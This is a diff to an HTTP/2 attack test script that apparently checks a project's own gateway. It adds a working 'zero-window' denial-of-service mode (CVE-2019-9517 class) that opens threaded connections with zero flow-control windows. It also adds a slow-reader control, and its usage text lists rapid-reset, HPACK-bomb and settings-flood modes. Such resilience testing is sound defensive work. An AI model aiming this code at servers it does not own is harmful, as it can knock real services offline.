@@ -6,6 +6,8 @@ tests/netns/test-gwd-tls.sh:
     h2attack.py HOST PORT AUTHORITY rapid-reset|continuation|hpack-bomb|settings-flood|normal
     h2attack.py HOST PORT AUTHORITY cookies|stream-id-regress
     h2attack.py HOST PORT AUTHORITY slow-headers [CONNS [tls]]
+    h2attack.py HOST PORT AUTHORITY zero-window N_STREAMS PATH [N_CONNS [SECONDS]]
+    h2attack.py HOST PORT AUTHORITY slow-window PATH
 
 Sends the attack, then reads until the server closes (10 s at most) and
 prints one line: "goaway CODE frames N" when a GOAWAY arrived (N = frames
@@ -19,8 +21,19 @@ body. "stream-id-regress" sends HEADERS on stream 5, then on stream 3.
 follows), each sending the preface, SETTINGS and a HEADERS frame without
 END_HEADERS, then waits up to 40 s and prints "slow closed C of N after S s"
 (S = when the last of the C closed connections closed).
+
+"zero-window" (CVE-2019-9517 class) opens N_CONNS connections (1) that set
+SETTINGS_INITIAL_WINDOW_SIZE to 0, ask for PATH on N_STREAMS streams each and
+never send WINDOW_UPDATE; it reads (and drops) what comes for SECONDS (10),
+then closes and prints "zero-window conns C headers H data D" (H response
+HEADERS and D DATA payload bytes seen, at most the 64 KiB connection window).
+"slow-window" is a legitimate slow reader: window 0, then 16 KiB
+WINDOW_UPDATEs (stream and connection) every 10 ms as DATA arrives; it
+prints "body BYTES sha256 HEX" of the response body.
 """
+import hashlib
 import selectors
+import threading
 import socket
 import ssl
 import struct
@@ -28,7 +41,8 @@ import sys
 import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, CONTINUATION = 0, 1, 3, 4, 7, 9
+DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 7, 8, 9
+INITIAL_WINDOW_SIZE = 4
 END_STREAM, END_HEADERS = 0x1, 0x4
 
 
@@ -140,11 +154,105 @@ def slow_headers(host, port, authority, conns, tls):
     print(f"slow closed {closed} of {conns} after {last:.1f} s")
 
 
+def frames_of(buf):
+    """Complete frames at the head of buf: ([(type, flags, stream, payload)], rest)."""
+    out = []
+    while len(buf) >= 9:
+        length = int.from_bytes(buf[:3], "big")
+        if len(buf) < 9 + length:
+            break
+        sid = int.from_bytes(buf[5:9], "big") & 0x7fffffff
+        out.append((buf[3], buf[4], sid, buf[9:9 + length]))
+        buf = buf[9 + length:]
+    return out, buf
+
+
+def zero_window(host, port, authority, nstreams, path, nconns, seconds):
+    counts = {"headers": 0, "data": 0, "conns": 0}
+    lock = threading.Lock()
+    block = request_block(authority, path)
+    zero = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
+    deadline = time.time() + seconds
+
+    def one():
+        sock = socket.create_connection((host, port), timeout=seconds)
+        out = [PREFACE, zero]
+        for i in range(nstreams):
+            out.append(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block))
+        sock.sendall(b"".join(out))
+        with lock:
+            counts["conns"] += 1
+        buf = b""
+        try:
+            while time.time() < deadline:
+                sock.settimeout(max(0.05, deadline - time.time()))
+                chunk = sock.recv(65536)
+                if not chunk:
+                    break
+                frs, buf = frames_of(buf + chunk)
+                with lock:
+                    for ftype, _, _, payload in frs:
+                        if ftype == HEADERS:
+                            counts["headers"] += 1
+                        elif ftype == DATA:
+                            counts["data"] += len(payload)
+        except (socket.timeout, ConnectionResetError):
+            pass
+        sock.close()
+
+    threads = [threading.Thread(target=one) for _ in range(nconns)]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join()
+    print(f"zero-window conns {counts['conns']} headers {counts['headers']} "
+          f"data {counts['data']}")
+
+
+def slow_window(host, port, authority, path):
+    sock = socket.create_connection((host, port), timeout=30)
+    zero = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
+    sock.sendall(PREFACE + zero +
+                 frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block(authority, path)))
+    body, buf, done, h = 0, b"", False, hashlib.sha256()
+    inc = struct.pack(">I", 16384)
+    last = 0.0
+    while not done:
+        if time.time() - last >= 0.01:
+            sock.sendall(frame(WINDOW_UPDATE, 0, 1, inc) + frame(WINDOW_UPDATE, 0, 0, inc))
+            last = time.time()
+        sock.settimeout(0.01)
+        try:
+            chunk = sock.recv(65536)
+        except socket.timeout:
+            continue
+        if not chunk:
+            break
+        frs, buf = frames_of(buf + chunk)
+        for ftype, flags, sid, payload in frs:
+            if ftype == DATA and sid == 1:
+                h.update(payload)
+                body += len(payload)
+            if sid == 1 and flags & END_STREAM and ftype in (DATA, HEADERS):
+                done = True
+            if ftype in (RST_STREAM, GOAWAY):
+                done = True
+    print(f"body {body} sha256 {h.hexdigest()}")
+
+
 def main():
     host, port, authority, kind = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
     if kind == "slow-headers":
         conns = int(sys.argv[5]) if len(sys.argv) > 5 else 1
         slow_headers(host, port, authority, conns, len(sys.argv) > 6 and sys.argv[6] == "tls")
+        return
+    if kind == "zero-window":
+        nconns = int(sys.argv[7]) if len(sys.argv) > 7 else 1
+        seconds = float(sys.argv[8]) if len(sys.argv) > 8 else 10
+        zero_window(host, port, authority, int(sys.argv[5]), sys.argv[6], nconns, seconds)
+        return
+    if kind == "slow-window":
+        slow_window(host, port, authority, sys.argv[5])
         return
     sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
     if kind == "settings-flood":
